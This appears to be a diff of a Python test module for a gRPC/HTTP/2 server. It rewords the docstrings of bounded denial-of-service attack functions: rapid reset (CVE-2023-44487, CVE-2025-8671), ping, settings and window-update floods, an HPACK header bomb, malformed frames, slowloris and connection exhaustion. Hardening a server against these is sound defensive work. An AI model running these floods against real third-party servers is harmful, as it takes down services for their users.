@@ -1,4 +1,4 @@
-"""What a hostile client does to a server: each is bounded, and ends by itself."""
+"""Attacks of a hostile client on a server; each is bounded and ends on its own."""
 
 import random
 import struct
@@ -30,7 +30,7 @@ STREAM = "/unroll.v1.UnrollService/Unroll"
 
 
 def rapid_reset(address: str) -> None:
-    """Calls that are cancelled in the moment they are made (CVE-2023-44487)."""
+    """Calls that are cancelled at once (CVE-2023-44487)."""
     begin = header_block(GET)
     for _ in range(4):
         with Connection(address) as connection:
@@ -45,7 +45,7 @@ def rapid_reset(address: str) -> None:
 
 
 def rapid_reset_by_the_server(address: str) -> None:
-    """Calls that the server must reset, because they break the protocol after they have begun (CVE-2025-8671)."""
+    """Calls that the server must reset, since they violate the protocol after their start (CVE-2025-8671)."""
     begin = header_block(STREAM)
     with Connection(address) as connection:
         for stream in range(1, 10_000, 2):
@@ -55,39 +55,39 @@ def rapid_reset_by_the_server(address: str) -> None:
 
 
 def ping_flood(address: str) -> None:
-    """Pings whose answers nobody reads."""
+    """Pings whose answers are never read."""
     _flood(address, frame(PING, 0, 0, b"12345678"))
 
 
 def settings_flood(address: str) -> None:
-    """Settings to acknowledge, whose acknowledgements nobody reads (CVE-2019-9515)."""
+    """Settings whose acknowledgements are never read (CVE-2019-9515)."""
     _flood(address, settings(initial_window_size=65535))
 
 
 def priority_flood(address: str) -> None:
-    """Priorities of streams that are not there (CVE-2019-9513)."""
+    """Priorities of streams that do not exist (CVE-2019-9513)."""
     _flood(address, frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 7)))
 
 
 def empty_data_flood(address: str) -> None:
-    """Pieces of a request with nothing in them (CVE-2019-9518)."""
+    """Empty pieces of a request (CVE-2019-9518)."""
     begin = frame(HEADERS, END_HEADERS, 1, header_block(STREAM))
     _flood(address, frame(DATA, 0, 1), begin)
 
 
 def padding_flood(address: str) -> None:
-    """Pieces of a request that are padding and nothing else."""
+    """Pieces of a request with only padding."""
     begin = frame(HEADERS, END_HEADERS, 1, header_block(STREAM))
     _flood(address, frame(DATA, 0x8, 1, bytes([200]) + bytes(200)), begin, count=5_000)
 
 
 def window_update_flood(address: str) -> None:
-    """Room for answers, a byte at a time."""
+    """Window updates of a single byte."""
     _flood(address, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
 
 
 def unknown_frames(address: str) -> None:
-    """Frames of a kind that nobody knows."""
+    """Frames of unknown types."""
     _flood(address, frame(0xCC, 0xFF, 0, bytes(64)))
 
 
@@ -116,7 +116,7 @@ def giant_headers(address: str) -> None:
 
 
 def header_bomb(address: str) -> None:
-    """Headers that are small until they are unpacked: one of 4 KB, named 15,000 times in a byte each."""
+    """Headers that are small until they are decoded: one of 4 KB, referenced 15,000 times by a byte."""
     kept = b"\x40" + b"\x01b" + b"\x7f" + _varint(3900 - 127) + b"z" * 3900
     for stream in (1, 3, 5):
         with Connection(address) as connection:
@@ -138,7 +138,7 @@ def _varint(value: int) -> bytes:
 
 
 def window_games(address: str) -> None:
-    """Windows of nothing, of too much, and that shrink below nothing."""
+    """Windows of zero, of too much, and that shrink below zero."""
     overflow = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1))
     nothing = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0))
     for pieces in ([overflow, overflow], [nothing], [settings(initial_window_size=2**31)]):
@@ -154,7 +154,7 @@ def window_games(address: str) -> None:
 
 
 def misplaced_frames(address: str) -> None:
-    """Frames where none of their kind may be, and frames of wrong sizes."""
+    """Frames in wrong places, and frames of wrong sizes."""
     begin = header_block(GET)
     for pieces in (
         [frame(DATA, 0, 0, b"x")],
@@ -180,7 +180,7 @@ def misplaced_frames(address: str) -> None:
 
 
 def broken_messages(address: str) -> None:
-    """Calls whose gRPC messages are none: too long, cut off, none at all, many, with a codec that nobody knows."""
+    """Calls with malformed gRPC messages: too long, truncated, missing, many, with an unknown codec."""
     with Connection(address) as connection:
         for number, body in enumerate(
             (b"\0\xff\xff\xff\xff", b"\0\0\0\0\x0aabc", b"", b"\x07\0\0\0\0", message(b"") * 100, b"\1\0\0\0\3abc")
@@ -194,7 +194,7 @@ def broken_messages(address: str) -> None:
 
 
 def garbage(address: str) -> None:
-    """Bytes that are no HTTP/2 at all, at once or after a good beginning."""
+    """Bytes that are not HTTP/2, at once or after a valid start."""
     bytes_of = random.Random(7).randbytes  # noqa: S311 - the same garbage each time
     hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)
     web = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"
@@ -207,14 +207,14 @@ def garbage(address: str) -> None:
 
 
 def half_open_prefaces(address: str) -> None:
-    """Connections that stop in the middle of their first words."""
+    """Connections that stop in the middle of the preface."""
     with ExitStack() as stack:
         for number in range(300):
             stack.enter_context(Connection(address, PREFACE[: number % len(PREFACE)]))
 
 
 def slowloris(address: str) -> None:
-    """Calls on many connections, all of which come a byte at a time and never whole."""
+    """Calls on many connections, sent byte by byte and never completed."""
     call = frame(HEADERS, END_HEADERS, 1, header_block(GET)) + frame(DATA, 0, 1, message(b"\x0a\x02jv"))
     with ExitStack() as stack:
         connections = [stack.enter_context(Connection(address)) for _ in range(100)]
@@ -224,7 +224,7 @@ def slowloris(address: str) -> None:
 
 
 def idle_connections(address: str) -> None:
-    """1,000 connections that say their first words and no more."""
+    """1,000 connections that send only the preface."""
     with ExitStack() as stack:
         connections = [stack.enter_context(Connection(address)) for _ in range(1000)]
         assert connections[0].is_alive()
@@ -232,7 +232,7 @@ def idle_connections(address: str) -> None:
 
 
 def connections_that_come_and_go(address: str) -> None:
-    """2,000 connections, each closed as soon as it is there."""
+    """2,000 connections, each closed at once."""
     for number in range(2000):
         with Connection(address, PREFACE + settings() if number % 2 else b""):
             pass
@@ -264,7 +264,7 @@ ATTACKS = (
 
 
 def _flood(address: str, piece: bytes, begin: bytes = b"", count: int = 50_000) -> None:
-    """Sends the same again and again, and reads nothing, until the server hangs up or takes no more."""
+    """Repeats some bytes without reading, until the server closes the connection or stops reading."""
     with Connection(address) as connection:
         connection.socket.settimeout(2)
         connection.send(begin)
